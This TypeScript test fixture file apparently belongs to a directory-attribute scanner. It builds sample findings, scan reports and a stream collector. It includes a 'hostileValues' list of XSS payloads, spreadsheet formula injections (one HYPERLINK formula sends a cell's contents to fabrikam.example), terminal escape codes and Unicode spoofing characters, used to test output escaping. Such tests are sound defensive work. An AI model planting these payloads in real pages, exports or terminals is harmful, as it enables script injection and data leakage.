import { Writable } from 'node:stream';
import { finished } from 'node:stream/promises';
import type { FindingRecord, Holder } from '../../../core/model/finding.ts';
import type { ScanReport, SourceCoverage } from '../../../core/model/scan.ts';

/** A finding like any other, with what a test cares about replaced. */
export function finding(changed: Partial<FindingRecord> = {}): FindingRecord {
  return {
    dn: 'CN=Anna Berg,OU=Sales,DC=contoso,DC=com',
    objectGUID: '6f3a2b10-0000-4000-8000-000000000001',
    objectClass: 'user',
    attribute: 'userPrincipalName',
    value: 'anna berg@contoso.com',
    problems: ['The value has a character that is not allowed: space.'],
    severity: 'error',
    ids: ['userPrincipalName.character'],
    proposal: 'annaberg@contoso.com',
    fix: true,
    suggestions: [],
    holders: [],
    inScope: true,
    fingerprint: 'a'.repeat(64),
    ...changed,
  };
}

export const holder: Holder = {
  dn: 'CN=Ben,OU=Sales,DC=contoso,DC=com',
  objectGUID: null,
  objectClass: 'user',
  attribute: 'mail',
  value: 'info@contoso.com',
  role: 'mail',
  inScope: false,
  enabled: false,
  mailbox: true,
  lastLogon: '2026-01-02T03:04:05Z',
  whenCreated: null,
};

/** Values that would do harm where they are not treated as hostile. */
export const hostileValues: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '=HYPERLINK("http://fabrikam.example/?"&A1,"open")',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '=1+1',
  '＝1+1',
  "'quoted",
  '\u001b[31mred\u001b[2J',
  '\u009b31m',
  'anna\u202egnp.exe',
  'a\u200bb',
  '\ufeffbom',
  'line one\r\nline two',
  'nul\0byte',
  'lone\ud800surrogate',
  'noncharacter\uffff',
  ' leading',
  'trailing ',
  '_x0041_',
  '⟨U+202E⟩',
  '\u007f',
  'a,b;c|d\\e"f',
  '',
];

/** A finding with the value in every place that can hold one. */
export function hostileFinding(value: string): FindingRecord {
  return finding({
    dn: `CN=${value},DC=contoso,DC=com`,
    objectClass: value,
    value,
    problems: [value, 'Plain.'],
    proposal: value,
    fix: false,
    suggestions: [value, 'plain'],
    holders: [{ ...holder, dn: value, value }],
  });
}

/** A source of which everything was read. */
export const sourceCoverage: SourceCoverage = {
  source: 'contoso.ldif',
  outcome: { state: 'ran' },
  objects: 1_234,
  otherRecords: 20,
  repeated: 0,
  damaged: 0,
  damage: [],
  notSeen: [],
};

/** A report of a scan, with what a test cares about replaced. */
export function report(changed: Partial<ScanReport> = {}): ScanReport {
  return {
    scan: {
      id: 3,
      state: 'complete',
      startedAt: '2026-03-01T08:00:00.000Z',
      endedAt: '2026-03-01T08:01:00.000Z',
      profile: 'entra',
      verifiedDomains: ['contoso.com'],
      sources: ['contoso.ldif'],
      scopeDns: [],
      excludeDns: [],
      error: null,
      objects: { total: 1_234, clean: 1_000, information: 4, warnings: 30, errors: 100, outOfScope: 100 },
      findings: { error: 120, warning: 45, info: 8 },
    },
    coverage: {
      sources: [sourceCoverage],
      skippedChecks: [],
    },
    bySeverity: { error: 120, warning: 45, info: 8 },
    byId: [
      { id: 'userPrincipalName.character', severity: 'error', findings: 120 },
      { id: 'mail.length', severity: 'warning', findings: 45 },
      { id: 'scope.filtered', severity: 'info', findings: 8 },
    ],
    byContainer: [{ dn: 'OU=Sales,DC=contoso,DC=com', errors: 120, warnings: 45, information: 8 }],
    byKind: [{ kind: 'user', objects: 1_234 }],
    outOfScope: [
      { reason: 'systemObject', sentence: 'Critical system objects are not synchronised.', objects: 100 },
    ],
    ...changed,
  };
}

/** Collects what is written; takes a little at a time, as a slow disk does. */
export function collector(): Writable & { bytes(): Promise<Buffer> } {
  const chunks: Buffer[] = [];
  const stream = new Writable({
    highWaterMark: 1_024,
    write(chunk: Buffer, _encoding, done) {
      chunks.push(chunk);
      setImmediate(done);
    },
  });
  const bytes = async (): Promise<Buffer> => {
    stream.end();
    await finished(stream);
    return Buffer.concat(chunks);
  };
  return Object.assign(stream, { bytes });
}
